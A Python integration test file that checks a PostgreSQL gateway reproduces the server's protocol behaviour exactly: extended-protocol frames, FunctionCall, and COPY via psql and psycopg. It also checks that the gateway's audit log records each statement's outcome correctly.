"""Protocol fidelity: whatever a client does, through the gateway it sees exactly what it would see directly.

Each test runs real work through a gateway and the same work on a direct connection to the upstream, compares
what the client got, and then reads the audit store. Covered: COPY in every format and direction (psql ``\\copy``,
psycopg, the extended protocol), failed COPYs, server-side COPY; CancelRequest from psql's Ctrl-C and forged keys;
LISTEN/NOTIFY, notices, SET/SHOW, transactions and savepoints; the extended protocol message by message with a
raw client (named statements and portals, Describe, row limits, Flush, errors mid-pipeline, Close); FunctionCall;
and whole clients: pgbench in its three query modes, SQLAlchemy (sync and async) and JDBC.
"""

from __future__ import annotations

import asyncio
import os
import secrets
import signal
import socket
import struct
import subprocess
import time
from collections.abc import Callable, Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import psycopg
import pytest
from psycopg import errors, sql
from sqlalchemy import URL, Numeric, Text, create_engine, func, select
from sqlalchemy.dialects.postgresql import ARRAY, JSONB
from sqlalchemy.exc import IntegrityError
from sqlalchemy.orm import DeclarativeBase, Mapped, Session, mapped_column

from tests.conftest import ADMIN_DSN, PG_HOST, PG_PORT, Gateway, UpstreamDB, flush_wait, run_gateway, unique
from tests.integration.test_bad_input import Raw
from tests.integration.test_clients import client_ssl, new_user, outcomes, recorded
from wardgate.protocols.postgres import decode, encode

JDBC_JAR = Path("/usr/share/java/postgresql.jar")
JDBC_SOURCE = Path(__file__).parent / "jdbc" / "FidelityClient.java"


@pytest.fixture(scope="module")
def gw(upstream: UpstreamDB, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    """One gateway for the module; plaintext is allowed only so that the raw client needs no TLS stack."""
    with run_gateway(tmp_path_factory.mktemp("fidelity"), upstream,
                     extra={"listen": {"allow_plaintext": True}}) as g:
        yield g


def statements_of(gw: Gateway, user: str, sessions: int = 1) -> list[dict[str, Any]]:
    """The statements of ``user``'s only session, once it has ended and every record is in."""
    _, stmts = recorded(gw, user, sessions)
    return stmts


# === a raw client and the frames it sends =====================================================================

_I = struct.Struct("!i")
_H = struct.Struct("!h")


def _msg(kind: bytes, body: bytes) -> bytes:
    return kind + _I.pack(len(body) + 4) + body


def _cstr(s: str) -> bytes:
    return s.encode() + b"\0"


def parse(name: str, text: str, types: tuple[int, ...] = ()) -> bytes:
    return _msg(b"P", _cstr(name) + _cstr(text) + _H.pack(len(types)) + b"".join(_I.pack(t) for t in types))


def bind(portal: str, statement: str, params: tuple[bytes | None, ...] = (), result_formats: tuple[int, ...] = (),
         param_formats: tuple[int, ...] = ()) -> bytes:
    body = _cstr(portal) + _cstr(statement) + _H.pack(len(param_formats))
    body += b"".join(_H.pack(f) for f in param_formats) + _H.pack(len(params))
    for p in params:
        body += _I.pack(-1) if p is None else _I.pack(len(p)) + p
    return _msg(b"B", body + _H.pack(len(result_formats)) + b"".join(_H.pack(f) for f in result_formats))


def execute(portal: str = "", max_rows: int = 0) -> bytes:
    return _msg(b"E", _cstr(portal) + _I.pack(max_rows))


def describe(kind: str, name: str) -> bytes:
    return _msg(b"D", kind.encode() + _cstr(name))


def close(kind: str, name: str) -> bytes:
    return _msg(b"C", kind.encode() + _cstr(name))


def function_call(oid: int, args: tuple[bytes | None, ...], arg_formats: tuple[int, ...] = (),
                  result_format: int = 0) -> bytes:
    body = _I.pack(oid) + _H.pack(len(arg_formats)) + b"".join(_H.pack(f) for f in arg_formats)
    body += _H.pack(len(args))
    for a in args:
        body += _I.pack(-1) if a is None else _I.pack(len(a)) + a
    return _msg(b"F", body + _H.pack(result_format))


def copy_data(data: bytes) -> bytes:
    return _msg(b"d", data)


SYNC = _msg(b"S", b"")
FLUSH = _msg(b"H", b"")
COPY_DONE = _msg(b"c", b"")

Frames = list[tuple[str, bytes]]


class Wire(Raw):
    """The raw client of test_bad_input, logged in either directly or through the gateway."""

    login_frames: Frames

    @classmethod
    def direct(cls, upstream: UpstreamDB) -> Wire:
        """The upstream trusts local logins: AuthenticationOk comes at once, no password asked."""
        w = cls(PG_PORT)
        w.send(encode.startup_message({"user": upstream.role, "database": upstream.name}))
        w.login_frames = w.until("Z")
        assert w.login_frames[0] == ("R", encode.auth_ok())
        return w

    @classmethod
    def via(cls, gw: Gateway, user: str) -> Wire:
        w = cls(gw.port)
        w.send(encode.startup_message({"user": user, "database": "app"}))
        assert w.message() == ("R", encode.auth_cleartext())
        w.send(encode.password_message(gw.token(user).encode()))
        w.login_frames = w.until("Z")
        assert w.login_frames[0] == ("R", encode.auth_ok())
        return w

    def backend_key(self) -> tuple[int, int]:
        (frame,) = [f for k, f in self.login_frames if k == "K"]
        return decode.backend_key(frame)

    def ask(self, data: bytes, until: str = "Z", times: int = 1) -> Frames:
        """Send ``data``, then read up to and including the ``times``-th message of kind ``until``."""
        self.send(data)
        out: Frames = []
        for _ in range(times):
            out += self.until(until)
        return out

    def silent(self, seconds: float = 0.3) -> bool:
        """Nothing arrives for ``seconds`` (the server is waiting for us)."""
        if self.buf:
            return False
        self.sock.settimeout(seconds)
        try:
            self.sock.recv(1, socket.MSG_PEEK)
        except TimeoutError:
            return True
        finally:
            self.sock.settimeout(10)
        return False

    def bye(self) -> None:
        self.send(encode.terminate())
        assert self.closed()


def kinds(frames: Frames) -> str:
    return "".join(k for k, _ in frames)


def comparable(frames: Frames) -> list[tuple[str, bytes]]:
    """Frames as the client sees them; BackendKeyData is the gateway's own, so only its presence is compared."""
    return [(k, b"" if k == "K" else f) for k, f in frames]


def rows_of(frames: Frames) -> list[list[str | None]]:
    """The text-format values of every DataRow."""
    out = []
    for k, f in frames:
        if k != "D":
            continue
        (n,) = _H.unpack_from(f, 5)
        pos, row = 7, []
        for _ in range(n):
            (size,) = _I.unpack_from(f, pos)
            pos += 4
            row.append(None if size < 0 else f[pos:pos + size].decode())
            pos += max(size, 0)
        out.append(row)
    return out


def tags_of(frames: Frames) -> list[str]:
    return [decode.command_tag(f) for k, f in frames if k == "C"]


def errors_of(frames: Frames) -> list[str]:
    return [decode.error_fields(f).fields["C"] for k, f in frames if k == "E"]


Script = Callable[[Wire], list[Frames]]


def raw_on_both(gw: Gateway, upstream: UpstreamDB, user: str, script: Script) -> list[Frames]:
    """Run ``script`` on a raw direct connection and through the gateway; every answer must be the same."""
    direct = Wire.direct(upstream)
    want = script(direct)
    direct.bye()
    via = Wire.via(gw, user)
    got = script(via)
    via.bye()
    assert [kinds(x) for x in got] == [kinds(x) for x in want]
    assert [comparable(x) for x in got] == [comparable(x) for x in want]
    return got


def summary(stmts: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    return [(s["protocol"], s["kind"], s["text"], s["param_count"], s["status"], s["command_tag"], s["row_count"],
             s["sqlstate"]) for s in stmts]


# === login ====================================================================================================


def test_login_replays_the_servers_parameters(gw: Gateway, upstream: UpstreamDB) -> None:
    """After AuthenticationOk the client gets the same ParameterStatus messages, one BackendKeyData and 'Z' idle."""
    direct = Wire.direct(upstream)
    via = Wire.via(gw, new_user("raw-login"))
    assert kinds(via.login_frames) == kinds(direct.login_frames)
    assert sorted(comparable(via.login_frames)) == sorted(comparable(direct.login_frames))
    assert via.login_frames[-1] == ("Z", encode.ready_for_query("I"))
    pid, _ = via.backend_key()
    assert pid > 0
    direct.bye()
    via.bye()


# === extended protocol, message by message ====================================================================


def test_named_statement_reused_with_several_binds(gw: Gateway, upstream: UpstreamDB) -> None:
    user = new_user("raw-named")
    text = "SELECT id, email FROM customers WHERE id = $1"

    def script(w: Wire) -> list[Frames]:
        out = [w.ask(parse("by_id", text, (23,)) + SYNC)]
        out.append(w.ask(b"".join(bind("", "by_id", (str(i).encode(),)) + execute() for i in (3, 14, 15)) + SYNC))
        # binary parameter and binary result on the same statement, in a batch of its own
        out.append(w.ask(bind("", "by_id", (_I.pack(9),), (1, 0), (1,)) + execute() + SYNC))
        return out

    prepared, three, binary = raw_on_both(gw, upstream, user, script)
    assert kinds(prepared) == "1Z" and kinds(three) == "2DC" * 3 + "Z" and kinds(binary) == "2DCZ"
    assert rows_of(three) == [["3", "c3@example.com"], ["14", "c14@example.com"], ["15", "c15@example.com"]]
    assert next(f for k, f in binary if k == "D").endswith(_I.pack(9) + _I.pack(14) + b"c9@example.com")
    assert summary(statements_of(gw, user)) == [("extended", "select", text, 1, "ok", "SELECT 1", 1, None)] * 4


def test_describe_statement_and_named_portal(gw: Gateway, upstream: UpstreamDB) -> None:
    user = new_user("raw-describe")
    text = "SELECT id, name, balance FROM customers WHERE id <= $1 ORDER BY id"
    insert = "INSERT INTO raw_describe VALUES ($1)"

    def script(w: Wire) -> list[Frames]:
        out = [w.ask(encode.query("CREATE TEMP TABLE raw_describe (id int)"))]
        out.append(w.ask(parse("few", text) + describe("S", "few") + bind("cur", "few", (b"3",))
                         + describe("P", "cur") + execute("cur") + SYNC))
        # a statement without a result: NoData for the statement and for its portal
        out.append(w.ask(parse("ins", insert) + describe("S", "ins") + bind("p2", "ins", (b"7",))
                         + describe("P", "p2") + execute("p2") + SYNC))
        return out

    _, few, ins = raw_on_both(gw, upstream, user, script)
    assert kinds(few) == "1tT2TDDDCZ" and rows_of(few) == [["1", "Customer 1", "1.50"], ["2", "Customer 2", "3.00"],
                                                           ["3", "Customer 3", "4.50"]]
    assert kinds(ins) == "1tn2nCZ" and tags_of(ins) == ["INSERT 0 1"]
    assert summary(statements_of(gw, user)) == [
        ("simple", "create", "CREATE TEMP TABLE raw_describe (id int)", 0, "ok", "CREATE TABLE", 0, None),
        ("extended", "select", text, 1, "ok", "SELECT 3", 3, None),
        ("extended", "insert", insert, 1, "ok", "INSERT 0 1", 1, None),
    ]


def test_row_limit_suspends_and_flush_delivers_before_sync(gw: Gateway, upstream: UpstreamDB) -> None:
    """Execute with a row limit gives PortalSuspended; Flush (no Sync) makes the server answer at once; the
    portal is resumed by later Executes in the same implicit transaction until it completes."""
    user = new_user("raw-suspend")
    text = "SELECT id FROM customers WHERE id <= $1 ORDER BY id"

    def script(w: Wire) -> list[Frames]:
        out = [w.ask(parse("", text) + bind("cur", "", (b"12",)) + execute("cur", 5) + FLUSH, until="s")]
        assert w.silent(), "the server answered a Flush with more than it was asked, or sent ReadyForQuery"
        out.append(w.ask(execute("cur", 5) + FLUSH, until="s"))
        assert w.silent()
        out.append(w.ask(execute("cur", 5) + FLUSH, until="C"))
        assert w.silent()
        out.append(w.ask(SYNC))
        return out

    first, second, last, ready = raw_on_both(gw, upstream, user, script)
    assert kinds(first) == "12" + "D" * 5 + "s" and kinds(second) == "D" * 5 + "s"
    assert kinds(last) == "DDC" and tags_of(last) == ["SELECT 2"] and kinds(ready) == "Z"
    assert [r[0] for r in rows_of(first + second + last)] == [str(i) for i in range(1, 13)]
    assert summary(statements_of(gw, user)) == [
        ("extended", "select", text, 1, "suspended", "SUSPENDED", 5, None),
        ("extended", "select", text, 1, "suspended", "SUSPENDED", 5, None),
        ("extended", "select", text, 1, "ok", "SELECT 2", 2, None),
    ]


def test_error_mid_pipeline_then_later_batches(gw: Gateway, upstream: UpstreamDB) -> None:
    """Three batches sent in one write: the error in the first makes the server skip to its Sync, Parse of a named
    statement included; the second batch runs normally; the third binds that never-created statement and fails.
    The audit says ok / error / skipped, then ok / ok, then error."""
    user = new_user("raw-pipeline")
    ok1, bad, skipped = "SELECT 1 AS a", "SELECT id / $1 AS b FROM customers", "SELECT count(*) FROM customers"

    def script(w: Wire) -> list[Frames]:
        batch1 = (parse("", ok1) + bind("", "") + execute()
                  + parse("", bad) + bind("", "", (b"0",)) + execute()
                  + parse("", skipped) + bind("", "") + execute()
                  + parse("named", skipped) + SYNC)
        batch2 = parse("", skipped) + bind("", "") + execute() + bind("", "", ()) + execute() + SYNC
        batch3 = bind("", "named") + execute() + SYNC  # "named" was never created: its Parse was skipped
        return [w.ask(batch1 + batch2 + batch3, times=3), w.ask(encode.query("SELECT 2"))]

    piped, after = raw_on_both(gw, upstream, user, script)
    assert kinds(piped) == "12DC12E" + "Z" + "12DC2DCZ" + "EZ"
    assert errors_of(piped) == ["22012", "26000"]
    assert kinds(after) == "TDCZ"
    assert summary(statements_of(gw, user)) == [
        ("extended", "select", "SELECT $1 AS a", 0, "ok", "SELECT 1", 1, None),
        ("extended", "select", bad, 1, "error", None, None, "22012"),
        ("extended", "select", skipped, 0, "skipped", None, None, None),
        ("extended", "select", skipped, 0, "ok", "SELECT 1", 1, None),
        ("extended", "select", skipped, 0, "ok", "SELECT 1", 1, None),
        # the Bind to the statement that was never created fails: that execution is an error, not a success
        ("extended", "select", skipped, 0, "error", None, None, "26000"),
        ("simple", "select", "SELECT $1", 0, "ok", "SELECT 1", 1, None),
    ]


def test_close_statement_and_portal_then_reuse_names(gw: Gateway, upstream: UpstreamDB) -> None:
    user = new_user("raw-close")
    first, second = "SELECT id FROM customers WHERE id <= $1 ORDER BY id", "SELECT email FROM customers WHERE id = $1"

    def script(w: Wire) -> list[Frames]:
        return [
            w.ask(parse("st", first) + bind("po", "st", (b"4",)) + execute("po", 1)
                  + close("P", "po") + close("S", "st")
                  + parse("st", second) + bind("po", "st", (b"4",)) + execute("po") + SYNC),
            # closing what does not exist is no error; the names are free again
            w.ask(close("S", "st") + close("S", "st") + close("P", "nothing") + parse("st", first)
                  + bind("po", "st", (b"2",)) + execute("po") + SYNC),
        ]

    reused, again = raw_on_both(gw, upstream, user, script)
    assert kinds(reused) == "12Ds3312DCZ" and rows_of(reused) == [["1"], ["c4@example.com"]]
    assert kinds(again) == "33312DDCZ"
    assert summary(statements_of(gw, user)) == [
        ("extended", "select", first, 1, "suspended", "SUSPENDED", 1, None),
        ("extended", "select", second, 1, "ok", "SELECT 1", 1, None),
        ("extended", "select", first, 1, "ok", "SELECT 2", 2, None),
    ]


def test_rejected_parse_of_an_existing_name_keeps_the_recorded_text(gw: Gateway, upstream: UpstreamDB) -> None:
    """Parse of a name already in use fails (42P05) and the server keeps the old statement. A later Bind to
    that name runs the old text, so that is the text the audit must show, not the rejected one."""
    user = new_user("raw-dup-parse")
    kept, rejected = "SELECT id AS kept FROM customers WHERE id = $1", "SELECT email AS rejected FROM customers"

    def script(w: Wire) -> list[Frames]:
        return [w.ask(parse("s", kept) + SYNC), w.ask(parse("s", rejected) + SYNC),
                w.ask(bind("", "s", (b"5",)) + execute() + SYNC)]

    _, dup, ran = raw_on_both(gw, upstream, user, script)
    assert errors_of(dup) == ["42P05"] and rows_of(ran) == [["5"]]
    stmts = statements_of(gw, user)
    assert [(s["text"], s["status"], s["sqlstate"]) for s in stmts] == [
        (rejected, "error", "42P05"),
        (kept, "ok", None),  # what the server ran
    ], summary(stmts)


def test_close_and_parse_skipped_after_an_error_keep_the_recorded_text(gw: Gateway, upstream: UpstreamDB) -> None:
    """After an error the server skips to Sync, Close and Parse included: the old statement lives on, and a later
    execution of it must be recorded with its own text, not with the text of the Parse that never happened."""
    user = new_user("raw-skipped-close")
    old, never = "SELECT id AS old_one FROM customers WHERE id = $1", "SELECT email AS never_parsed FROM customers"

    def script(w: Wire) -> list[Frames]:
        return [
            w.ask(parse("s", old) + SYNC),
            w.ask(parse("", "SELECT 1 / 0") + bind("", "") + execute() + close("S", "s") + parse("s", never) + SYNC),
            w.ask(bind("", "s", (b"6",)) + execute() + SYNC),
        ]

    _, failed, ran = raw_on_both(gw, upstream, user, script)
    assert errors_of(failed) == ["22012"] and kinds(ran) == "2DCZ" and rows_of(ran) == [["6"]]
    stmts = statements_of(gw, user)
    assert [(s["text"], s["status"]) for s in stmts] == [
        ("SELECT $1 / $2", "error"),
        (old, "ok"),  # what the server ran
    ], summary(stmts)


def test_describe_error_is_not_blamed_on_the_next_statement(gw: Gateway, upstream: UpstreamDB) -> None:
    """A Describe of a missing statement fails first; the SELECT after it never runs. The audit must not say the
    SELECT failed with the Describe's error."""
    user = new_user("raw-describe-error")

    def script(w: Wire) -> list[Frames]:
        return [w.ask(describe("S", "missing") + parse("", "SELECT count(*) FROM customers") + bind("", "")
                      + execute() + SYNC)]

    (frames,) = raw_on_both(gw, upstream, user, script)
    assert kinds(frames) == "EZ" and errors_of(frames) == ["26000"]
    stmts = statements_of(gw, user)
    blamed = [s for s in stmts if s["kind"] == "select" and s["status"] == "error"]
    assert not blamed, summary(stmts)
    assert ("26000", "error") in [(s["sqlstate"], s["status"]) for s in stmts], summary(stmts)
    assert [s["status"] for s in stmts if s["kind"] == "select"] in ([], ["skipped"]), summary(stmts)


def test_sql_prepared_statement_bound_over_the_protocol_is_recorded(gw: Gateway, upstream: UpstreamDB) -> None:
    """A statement made with SQL PREPARE is a named statement like any other: a protocol Bind may run it. The
    audit must record what ran, not an empty statement."""
    user = new_user("raw-sql-prepare")
    text = "SELECT count(*) FROM customers WHERE id > $1"

    def script(w: Wire) -> list[Frames]:
        return [w.ask(encode.query(f"PREPARE by_sql AS {text}")),
                w.ask(bind("", "by_sql", (b"45",)) + execute() + SYNC)]

    _, ran = raw_on_both(gw, upstream, user, script)
    assert kinds(ran) == "2DCZ" and rows_of(ran) == [["5"]]
    stmts = statements_of(gw, user)
    assert [(s["kind"], s["text"], s["status"]) for s in stmts] == [
        ("prepare", f"PREPARE by_sql AS {text}", "ok"),
        ("select", text, "ok"),
    ], summary(stmts)


# === FunctionCall =============================================================================================


def function_oid(upstream: UpstreamDB, signature: str) -> int:
    with upstream.connect() as conn:
        row = conn.execute("SELECT %s::regprocedure::oid::int", (signature,)).fetchone()
    assert row is not None
    return int(row[0])


def test_function_call_is_relayed_and_recorded(gw: Gateway, upstream: UpstreamDB) -> None:
    user = new_user("raw-fcall")
    abs_oid, div_oid = function_oid(upstream, "abs(int4)"), function_oid(upstream, "int4div(int4,int4)")

    def script(w: Wire) -> list[Frames]:
        return [
            w.ask(function_call(abs_oid, (b"-42",))),
            w.ask(function_call(abs_oid, (_I.pack(-7),), (1,), 1)),  # binary argument and result
            w.ask(function_call(div_oid, (b"1", b"0"))),
            w.ask(encode.query("BEGIN") + function_call(div_oid, (b"84", b"2")), times=2),
            w.ask(encode.query("COMMIT")),
        ]

    text, binary, failed, in_tx, _ = raw_on_both(gw, upstream, user, script)
    assert kinds(text) == "VZ" and text[0][1] == _msg(b"V", _I.pack(2) + b"42")
    assert binary[0][1] == _msg(b"V", _I.pack(4) + _I.pack(7))
    assert kinds(failed) == "EZ" and errors_of(failed) == ["22012"]
    assert kinds(in_tx) == "CZVZ" and in_tx[2][1] == _msg(b"V", _I.pack(2) + b"42") and in_tx[-1][1][-1:] == b"T"
    stmts = statements_of(gw, user)
    assert [(s["protocol"], s["kind"], s["text"], s["param_count"], s["status"], s["command_tag"], s["sqlstate"])
            for s in stmts] == [
        ("function", "function_call", f"-- function call: oid {abs_oid}", 1, "ok", "FUNCTION CALL", None),
        ("function", "function_call", f"-- function call: oid {abs_oid}", 1, "ok", "FUNCTION CALL", None),
        ("function", "function_call", f"-- function call: oid {div_oid}", 2, "error", None, "22012"),
        ("simple", "transaction", "BEGIN", 0, "ok", "BEGIN", None),
        ("function", "function_call", f"-- function call: oid {div_oid}", 2, "ok", "FUNCTION CALL", None),
        ("simple", "transaction", "COMMIT", 0, "ok", "COMMIT", None),
    ]


def test_function_call_keeps_the_unnamed_statement(gw: Gateway, upstream: UpstreamDB) -> None:
    """Unlike a simple Query, a FunctionCall does not drop the unnamed statement: the server still runs it on a
    later Bind, so the audit must record its text, not an empty statement."""
    user = new_user("raw-fcall-unnamed")
    abs_oid = function_oid(upstream, "abs(int4)")
    text = "SELECT count(*) FROM customers WHERE id > $1"

    def script(w: Wire) -> list[Frames]:
        return [w.ask(parse("", text) + SYNC), w.ask(function_call(abs_oid, (b"-1",))),
                w.ask(bind("", "", (b"10",)) + execute() + SYNC)]

    _, _, ran = raw_on_both(gw, upstream, user, script)
    assert kinds(ran) == "2DCZ" and rows_of(ran) == [["40"]]
    stmts = statements_of(gw, user)
    assert [(s["kind"], s["text"], s["status"]) for s in stmts] == [
        ("function_call", f"-- function call: oid {abs_oid}", "ok"),
        ("select", text, "ok"),
    ], summary(stmts)


# === COPY over the extended protocol ==========================================================================


def test_extended_protocol_copy_keeps_the_audit_in_step(gw: Gateway, upstream: UpstreamDB) -> None:
    """libpq's PQexecParams (and tokio-postgres, ...) run COPY FROM STDIN as Parse/Bind/Execute/Sync, then the
    data, CopyDone and a second Sync. The server ignores a Sync received in copy-in mode, so both Syncs together
    get one ReadyForQuery. Statements after the COPY must still be recorded with their own outcomes."""
    user = new_user("raw-ext-copy")

    def script(w: Wire) -> list[Frames]:
        out = [w.ask(encode.query("CREATE TEMP TABLE ext_copy (id int, v text)"))]
        out.append(w.ask(parse("", "COPY ext_copy FROM STDIN") + bind("", "") + describe("P", "") + execute()
                         + SYNC, until="G"))
        out.append(w.ask(copy_data(b"1\tone\n") + copy_data(b"2\ttwo\n") + COPY_DONE + SYNC))
        # a failing extended COPY: the server skips to the next Sync, which the client sends after CopyDone
        out.append(w.ask(parse("", "COPY ext_copy FROM STDIN") + bind("", "") + execute() + SYNC, until="G"))
        out.append(w.ask(copy_data(b"3\tthree\n") + copy_data(b"x\tbad\n") + COPY_DONE + SYNC))
        # and COPY TO STDOUT in the extended protocol
        out.append(w.ask(parse("", "COPY ext_copy TO STDOUT") + bind("", "") + execute() + SYNC))
        out.append(w.ask(parse("", "SELECT count(*) FROM ext_copy") + bind("", "") + execute() + SYNC))
        out.append(w.ask(encode.query("SELECT 42")))
        return out

    _, started, done, started2, failed, copied_out, count, simple = raw_on_both(gw, upstream, user, script)
    assert kinds(started) == "12nG" and kinds(done) == "CZ" and tags_of(done) == ["COPY 2"]
    assert kinds(started2) == "12G" and kinds(failed) == "EZ" and errors_of(failed) == ["22P02"]
    assert kinds(copied_out) == "12HddcCZ" and rows_of(count) == [["2"]] and rows_of(simple) == [["42"]]
    stmts = statements_of(gw, user)
    assert [(s["kind"], s["status"], s["command_tag"], s["sqlstate"]) for s in stmts] == [
        ("create", "ok", "CREATE TABLE", None),
        ("copy", "ok", "COPY 2", None),
        ("copy", "error", None, "22P02"),
        ("copy", "ok", "COPY 2", None),
        ("select", "ok", "SELECT 1", None),
        ("select", "ok", "SELECT 1", None),
    ], summary(stmts)


# === COPY with real clients ===================================================================================

# The customers plus rows that stress the text and CSV escapes, NULLs, non-ASCII, and one large row that spans
# many network packets.
COPY_SOURCE = r"""
SELECT * FROM (
  SELECT * FROM customers
  UNION ALL
  SELECT 1001, E'tab\there, new\nline, back\\slash', 'quote"and''apostrophe@example.com', NULL, -0.01, NULL,
         NULL, ARRAY['a b', '"q"', NULL, 'ümlaut', ''], '{"k": "v\u00e9", "arr": [1, null]}'::jsonb
  UNION ALL
  SELECT 1002, repeat('0123456789', 30000), ',,,"\.', '\N', 99999999.99, true, date '1999-12-31', '{}', 'null'
) AS s ORDER BY id
"""
COPY_FORMATS = {"text": "in.txt", "csv": "in.csv", "binary": "in.bin"}


def export(upstream: UpstreamDB, query: str, fmt: str) -> bytes:
    with upstream.connect() as conn, conn.cursor() as cur, \
            cur.copy(f"COPY ({query}) TO STDOUT (FORMAT {fmt})") as copy:
        return b"".join(bytes(block) for block in copy)


def psql(conninfo: str, cwd: Path, *args: str, password: str | None = None,
         timeout: float = 30) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PGPASSWORD": password or "", "PGCONNECT_TIMEOUT": "10"}
    env.pop("PGSERVICE", None)
    return subprocess.run(["psql", "-X", "-d", conninfo, *args], cwd=cwd, env=env, capture_output=True, text=True,
                          timeout=timeout)


def psql_both(gw: Gateway, upstream: UpstreamDB, user: str, tmp: Path, files: dict[str, bytes],
              *args: str) -> tuple[subprocess.CompletedProcess[str], subprocess.CompletedProcess[str], Path, Path]:
    """The same psql command, directly and through the gateway, each in a directory holding the same files."""
    results = []
    for side in ("direct", "gateway"):
        d = tmp / side
        d.mkdir()
        for name, data in files.items():
            (d / name).write_bytes(data)
        if side == "direct":
            results.append(psql(upstream.dsn, d, *args))
        else:
            conninfo = f"host=127.0.0.1 port={gw.port} dbname=app user={user} sslmode=require"
            results.append(psql(conninfo, d, *args, password=gw.token(user)))
    return results[0], results[1], tmp / "direct", tmp / "gateway"


def test_psql_copy_round_trips_text_csv_binary(gw: Gateway, upstream: UpstreamDB, tmp_path: Path) -> None:
    user = new_user("psql-copy")
    inputs = {name: export(upstream, COPY_SOURCE, fmt) for fmt, name in COPY_FORMATS.items()}
    script = "\n".join([
        "CREATE TEMP TABLE t_text (LIKE customers);",
        "CREATE TEMP TABLE t_csv (LIKE customers);",
        "CREATE TEMP TABLE t_binary (LIKE customers);",
        r"\copy t_text FROM 'in.txt'",
        r"\copy t_csv FROM 'in.csv' WITH (FORMAT csv)",
        r"\copy t_binary FROM 'in.bin' WITH (FORMAT binary)",
        r"\copy (SELECT * FROM t_text ORDER BY id) TO 'out.txt'",
        r"\copy (SELECT * FROM t_csv ORDER BY id) TO 'out.csv' WITH (FORMAT csv)",
        r"\copy (SELECT * FROM t_binary ORDER BY id) TO 'out.bin' WITH (FORMAT binary)",
        "",
    ])
    direct, via, ddir, gdir = psql_both(gw, upstream, user, tmp_path, {**inputs, "copy.sql": script.encode()},
                                        "-v", "ON_ERROR_STOP=1", "-f", "copy.sql")
    assert direct.returncode == 0, direct.stderr
    assert (via.returncode, via.stdout, via.stderr) == (0, direct.stdout, direct.stderr)
    assert via.stdout.split("\n").count("COPY 52") == 6
    for name in COPY_FORMATS.values():
        out = name.replace("in.", "out.")
        assert (gdir / out).read_bytes() == inputs[name], f"{out} differs from {name} through the gateway"
        assert (ddir / out).read_bytes() == inputs[name]
    stmts = statements_of(gw, user)
    assert outcomes(stmts) == [("create", "ok", "CREATE TABLE", 0)] * 3 + [("copy", "ok", "COPY 52", 52)] * 6
    assert {s["protocol"] for s in stmts} == {"simple"}
    copies = [s["text"] for s in stmts[3:]]
    assert all("FROM STDIN" in t for t in copies[:3]) and all("TO STDOUT" in t for t in copies[3:]), copies
    assert "binary" in copies[2] and "csv" in copies[4]


def test_psql_copy_with_a_bad_row_mid_stream(gw: Gateway, upstream: UpstreamDB, tmp_path: Path) -> None:
    """The server rejects line 3 while psql is still sending thousands more; psql reports the error the same
    way and goes on with the script on the same session."""
    user = new_user("psql-copy-bad")
    lines = [b"1\tone", b"2\ttwo", b"x4111111111111111\tbad", *(b"%d\tmore" % i for i in range(4, 20000))]
    script = "\n".join([
        "CREATE TEMP TABLE bad (id int, v text);",
        r"\copy bad FROM 'bad.txt'",
        "SELECT count(*) AS n FROM bad;",
        r"\copy bad FROM 'good.txt'",
        "SELECT count(*) AS n FROM bad;",
        "",
    ])
    files = {"bad.txt": b"\n".join(lines) + b"\n", "good.txt": b"7\tseven\n8\teight\n", "bad.sql": script.encode()}
    direct, via, _, _ = psql_both(gw, upstream, user, tmp_path, files, "-f", "bad.sql")
    assert (via.returncode, via.stdout, via.stderr) == (direct.returncode, direct.stdout, direct.stderr)
    assert "invalid input syntax for type integer" in via.stderr and "COPY bad, line 3" in via.stderr
    assert via.stdout.count("(1 row)") == 2 and "COPY 2" in via.stdout
    stmts = statements_of(gw, user)
    assert [(s["kind"], s["status"], s["command_tag"], s["row_count"], s["sqlstate"]) for s in stmts] == [
        ("create", "ok", "CREATE TABLE", 0, None),
        ("copy", "error", None, None, "22P02"),
        ("select", "ok", "SELECT 1", 1, None),
        ("copy", "ok", "COPY 2", 2, None),
        ("select", "ok", "SELECT 1", 1, None),
    ]
    assert stmts[1]["error_message"] == 'invalid input syntax for type integer: "…"'  # the bad value is redacted


def test_psycopg_copy_rows_in_text_csv_and_binary(gw: Gateway, upstream: UpstreamDB) -> None:
    user = new_user("psycopg-copy")
    columns = "id, name, email, balance, active, joined, tags, profile"
    types = ["int4", "text", "text", "numeric", "bool", "date", "text[]", "jsonb"]
    source = f"SELECT {columns} FROM ({COPY_SOURCE}) AS src ORDER BY id"

    def scenario(conn: psycopg.Connection[Any]) -> Any:
        out: dict[str, Any] = {}
        with conn.cursor() as cur:
            with cur.copy(f"COPY ({source}) TO STDOUT (FORMAT BINARY)") as copy:
                copy.set_types(types)
                rows = list(copy.rows())
            out["read binary"] = rows
            with cur.copy(f"COPY ({source}) TO STDOUT") as copy:
                out["read text"] = list(copy.rows())
            with cur.copy(f"COPY ({source}) TO STDOUT (FORMAT csv, HEADER)") as copy:
                csv_bytes = b"".join(bytes(b) for b in copy)
            out["read csv"] = csv_bytes
            for fmt in ("text", "binary"):
                cur.execute(f"CREATE TEMP TABLE in_{fmt} (LIKE customers)")
                opts = " (FORMAT BINARY)" if fmt == "binary" else ""
                with cur.copy(f"COPY in_{fmt} ({columns}) FROM STDIN{opts}") as copy:
                    copy.set_types(types)
                    for row in rows:
                        copy.write_row(row)
                out[f"wrote {fmt}"] = cur.rowcount
            cur.execute("CREATE TEMP TABLE in_csv (LIKE customers)")
            with cur.copy(f"COPY in_csv ({columns}) FROM STDIN (FORMAT csv, HEADER)") as copy:
                for i in range(0, len(csv_bytes), 8191):  # odd-sized writes: lines cut across CopyData messages
                    copy.write(csv_bytes[i:i + 8191])
            out["wrote csv"] = cur.rowcount
            for fmt in ("text", "binary", "csv"):
                with cur.copy(f"COPY (SELECT {columns} FROM in_{fmt} ORDER BY id) TO STDOUT (FORMAT BINARY)") as copy:
                    copy.set_types(types)
                    out[f"round trip {fmt}"] = list(copy.rows())
        conn.commit()
        return out

    with upstream.connect() as conn:
        direct = scenario(conn)
    with psycopg.connect(gw.dsn(user, gw.token(user))) as conn:
        via = scenario(conn)
    assert via == direct
    rows = via["read binary"]
    assert len(rows) == 52 and rows[-1][1] == "0123456789" * 30000 and rows[-2][7] == {"k": "vé", "arr": [1, None]}
    assert rows[-2][6] == ["a b", '"q"', None, "ümlaut", ""] and rows[-1][2] == ',,,"\\.'
    for fmt in ("text", "binary", "csv"):
